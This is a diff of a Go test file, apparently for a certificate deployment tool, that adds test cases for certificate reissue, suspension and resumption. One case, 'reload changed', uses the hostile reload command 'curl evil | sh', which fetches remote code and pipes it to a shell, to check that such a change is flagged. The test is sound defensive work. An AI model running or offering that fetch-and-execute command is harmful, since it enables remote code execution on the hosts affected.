@@ -147,7 +147,7 @@ func TestBuild(t *testing.T) {
 		// writing and running these there.
 		Hosts: []HostChange{{Certificate: "shop-frontend", Agents: []string{"web-01"},
 			Paths: []string{"/etc/ssl/shop/cert.pem", "/etc/ssl/shop/key.pem"}, Reload: []string{"nginx", "-s", "reload"},
-			Changed: []string{"agents"}}},
+			Changed: []string{"agents", "reissue"}}},
 	}
 	if diff := cmp.Diff(got, want); diff != "" {
 		t.Errorf("Build() mismatch (-got +want):\n%s", diff)
@@ -412,14 +412,20 @@ func TestMarkdownCaps(t *testing.T) {
 }
 
 // TestHostChanges: the hosts section lists a certificate when its files,
-// reload or agents change, and only then.
+// reload or agents change, when its agents get new certificates (reissue),
+// and when it is suspended or resumed, and only then.
 func TestHostChanges(t *testing.T) {
 	agent := &spec.Object{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}}
-	cert := func(reload ...string) *spec.Object {
-		return &spec.Object{Kind: spec.KindCertificate, Name: "shop", Spec: &spec.CertificateSpec{IssuerRef: "ca",
+	certWith := func(edit func(*spec.CertificateSpec), reload ...string) *spec.Object {
+		c := &spec.CertificateSpec{IssuerRef: "ca",
 			Deploy: &spec.Deployment{AgentSelector: &spec.LabelSelector{MatchLabels: map[string]string{"role": "web"}},
-				Files: spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem"}, Reload: reload}}}
+				Files: spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem"}, Reload: reload}}
+		edit(c)
+		return &spec.Object{Kind: spec.KindCertificate, Name: "shop", Spec: c}
 	}
+	cert := func(reload ...string) *spec.Object { return certWith(func(*spec.CertificateSpec) {}, reload...) }
+	reissued := certWith(func(c *spec.CertificateSpec) { c.Reissue = "2026-12-05" }, "true")
+	suspended := certWith(func(c *spec.CertificateSpec) { c.Suspend = true }, "true")
 	for _, tt := range []struct {
 		name       string
 		base, head map[spec.Key]*spec.Object
@@ -427,8 +433,11 @@ func TestHostChanges(t *testing.T) {
 	}{
 		{"unchanged", objects(agent, cert("true")), objects(agent, cert("true")), nil},
 		{"new certificate", objects(agent), objects(agent, cert("true")), []string{"new"}},
-		{"reload changed", objects(agent, cert("true")), objects(agent, cert("bash", "-c", "curl evil | sh")), []string{"reload"}},
+		{"reload changed", objects(agent, cert("true")), objects(agent, cert("bash", "-c", "curl evil | sh")), []string{"reload", "reissue"}},
 		{"a new agent selected", objects(cert("true")), objects(agent, cert("true")), []string{"agents"}},
+		{"reissue set", objects(agent, cert("true")), objects(agent, reissued), []string{"reissue"}},
+		{"suspended", objects(agent, cert("true")), objects(agent, suspended), []string{"suspend"}},
+		{"resumed", objects(agent, suspended), objects(agent, cert("true")), []string{"resume"}},
 	} {
 		got := hostChanges(tt.base, tt.head)
 		switch {
